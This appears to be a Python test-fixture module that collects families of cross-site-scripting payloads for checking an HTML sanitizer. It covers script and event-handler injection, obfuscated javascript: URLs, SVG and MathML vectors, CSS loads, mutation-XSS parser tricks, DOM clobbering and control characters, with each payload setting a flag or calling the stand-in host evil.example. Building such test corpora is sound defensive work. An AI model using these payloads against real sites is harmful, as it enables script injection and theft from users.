"""Hostile HTML of our own making, in families. Everything that would run sets ``window.ran`` or asks evil.example."""

from __future__ import annotations

RUN = "window.ran=1"
EVIL = "//evil.example/x"

_HANDLERS = (
    "onclick onload onerror onmouseover onfocus onblur onanimationstart onanimationend ontransitionend onpointerenter"
    " onwheel ontoggle onbeforeinput oninput onchange onkeydown onpaste oncopy oncut ondrag onscroll onresize"
    " onhashchange onpageshow onbegin onend onrepeat onstart onfinish onbeforematch oncontentvisibilityautostatechange"
).split()
_ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" javascript:{RUN}",
    f"\x01javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"java\x00script:{RUN}",
    f"java&Tab;script:{RUN}",
    f"java&NewLine;script&colon;{RUN}",
    f"&#106;avascript:{RUN}",
    f"&#x6a;avascript&#58;{RUN}",
    f"&#0000106avascript:{RUN}",
    f"javascript&#x3a;{RUN}",
    f"\u202ejavascript:{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=",
    f"blob:https://x.example/{RUN}",
    f"view-source:javascript:{RUN}",
    f"feed:javascript:{RUN}",
    f"jar:javascript:{RUN}",
    "file:///etc/passwd",
    EVIL,
    "\\\\evil.example\\x",
    "/relative",
    "?query",
    "#fragment",
    f"https:javascript:{RUN}",
    f'https://x.example/"onmouseover={RUN} x="',
    f"https://x.example/'onmouseover={RUN}'",
    f'mailto:a@x.example"onclick={RUN}',
    "http:\\\\evil.example",
    "ht\ttps://evil.example",
)
_ELEMENTS = (
    "<{0} src={1}></{0}>",
    "<{0} href={1}>x</{0}>",
    '<{0} data="{1}" code="{1}" background="{1}" poster="{1}">x',
)
_LOADERS = (
    "img image video audio source track embed object iframe frame frameset applet portal link input bgsound".split()
)

SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<script/x>{RUN}</script/x>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<<script>{RUN}//<</script>",
    f"<script\n>{RUN}</script\t>",
    f"<script src={EVIL}></script>",
    f"<script type=module>{RUN}</script>",
    f"<script>{RUN}",
    f"</script><script>{RUN}</script>",
    f"<sc\x00ript>{RUN}</sc\x00ript>",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{RUN}",
    f"<template><script>{RUN}</script></template>",
    f"<template shadowrootmode=open><script>{RUN}</script></template>",
]
HANDLERS = [f"<p {name}={RUN}>x</p>" for name in _HANDLERS] + [
    f"<a href='https://x.example/' {name}='{RUN}' autofocus tabindex=1>x</a>" for name in _HANDLERS[:12]
]
ADDRESSES = [f'<a href="{each}">x</a>' for each in _ADDRESSES] + [
    f"<table background=javascript:{RUN}><tr><td background={EVIL}>x</td></tr></table>",
    f"<a xlink:href=javascript:{RUN}>x</a>",
    f"<a href=https://x.example/ ping={EVIL} target=_top>x</a>",
    f"<q cite=javascript:{RUN}>x</q>",
]
LOADERS = [shape.format(name, EVIL) for name in _LOADERS for shape in _ELEMENTS] + [
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<img srcset='{EVIL} 1x'>",
    f"<video><source onerror={RUN}></video>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data=data:text/html,<script>{RUN}</script>></object>",
]
FOREIGN = [
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href={EVIL} /></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{RUN} />",
    f"<svg><foreignObject><iframe onload={RUN}></foreignObject></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'/></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<svg><desc><p onclick={RUN}>x</p></desc></svg>",
    f"<math href=javascript:{RUN}>x</math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
    f"<math><mtext><script>{RUN}</script></mtext></math>",
    f"<math><annotation-xml encoding='text/html'><script>{RUN}</script></annotation-xml></math>",
]
STYLES = [
    f"<style>@import url({EVIL});</style>",
    f"<style>body{{background:url({EVIL})}}</style>",
    f"<p style='background:url({EVIL})'>x</p>",
    f'<p style="background:\\75rl({EVIL})">x</p>',
    f"<p style='width:expression({RUN})'>x</p>",
    f"<p style='-moz-binding:url({EVIL})'>x</p>",
    f"<p style='behavior:url({EVIL})'>x</p>",
    "<p style='position:fixed;inset:0;z-index:9999'>x</p>",
    "<div class=modal id=reply-heading>x</div>",
    "<style>input[value^=a]{color:red}</style>",
    f"<link rel=stylesheet href={EVIL}>",
    f"<p><span class='underline bar' style='color:red' onclick={RUN}>x</span></p>",
]
MUTATIONS = [
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={RUN}&gt;">',
    f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f'<math><mi><table><mi><mglyph><svg><mtext><style><path id="</style><img src=x onerror={RUN}>">',
    f"<p><svg><title><style><img title='</style><img src=x onerror={RUN}>'>",
    f"<textarea><img title='</textarea><img src=x onerror={RUN}>'>",
    f"<title><a title='</title><img src=x onerror={RUN}>'>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'></xmp>",
    f"<noembed><p title='</noembed><img src=x onerror={RUN}>'>",
    f"<noframes><p title='</noframes><img src=x onerror={RUN}>'>",
    f"<iframe><p title='</iframe><img src=x onerror={RUN}>'>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<!-- --!><img src=x onerror={RUN}> -->",
    f"<![CDATA[><img src=x onerror={RUN}>]]>",
    f"<?xml version='1.0'?><img src=x onerror={RUN}>",
    f"<!DOCTYPE html [<!ENTITY x '<img src=x onerror={RUN}>'>]>&x;",
    f"<a title='`><img src=x onerror={RUN}>`'>x</a>",
    f"<p title=`x`onclick={RUN}`>x</p>",
    f'<table><td><p title="<table><img src=x onerror={RUN}>">x',
    f"<select><option><style></option></select><b><img src=x onerror={RUN}></style></option>",
    f"<select><script>{RUN}</script></select>",
    f"<plaintext><img src=x onerror={RUN}>",
    f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
]
DOCUMENTS = [
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<base href={EVIL}/><a href=x>x</a>",
    f"<form action={EVIL}><input name=a autofocus onfocus={RUN}><button>x</button></form>",
    f"<button formaction=javascript:{RUN}>x</button>",
    f"<input type=image src={EVIL}>",
    f"<isindex action=javascript:{RUN} type=image>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<dialog open onclose={RUN}>x</dialog>",
    f"<body onload={RUN}>",
    f"<html onclick={RUN}><head><script>{RUN}</script></head></html>",
    "<img name=getElementById><form id=cookie><input name=attributes></form>",
    "<a id=config href=https://x.example/>x</a><a id=config name=url href=https://y.example/>y</a>",
    f"<p hx-get={EVIL} hx-trigger=load>x</p>",
    f"<p data-hx-get={EVIL} data-hx-trigger=load data-focus data-once>x</p>",
    f"<div hx-on:click={RUN} _='on load js {RUN} end'>x</div>",
    f"<x-y is=a onclick={RUN}>x</x-y>",
    f"<p contenteditable onbeforeinput={RUN}>x</p>",
]
CHARACTERS = [
    "plan\u202efdp.exe",
    "plan&#x202e;fdp.exe",
    "plan&#8238;fdp.exe",
    "\u2066x\u2069\u2067y\u2068z",
    "a\x00b\x08c\x0bd\x1be\x7ff\x9bg",
    "a&#0;b&#8;c&#27;d&#127;e&#x9b;f",
    "a\ufeffb\ufffe\uffffc",
    "a\ud800b\udfffc",
    "a&#xd800;b&#xffff;c",
    "&#99999999999;&#x;&#;&notanentity;",
    "\x1b[2J\x1b]0;x\x07",
    "<p>a<\x00b>c</\x00p>",
]
DEEP = [
    "<div>" * 5000 + f"<img src=x onerror={RUN}>",
    "<ul><li>" * 600 + f"<script>{RUN}</script>",
    "<table><tr><td>" * 300 + f"<script>{RUN}</script>",
    "<strong>" * 2000 + "x",
    "<p" + " a=b" * 20000 + f" onclick={RUN}>x",
]

FAMILIES = {
    "scripts": SCRIPTS,
    "handlers": HANDLERS,
    "addresses": ADDRESSES,
    "loaders": LOADERS,
    "foreign": FOREIGN,
    "styles": STYLES,
    "mutations": MUTATIONS,
    "documents": DOCUMENTS,
    "characters": CHARACTERS,
    "deep": DEEP,
}
ALL = [each for family in FAMILIES.values() for each in family]
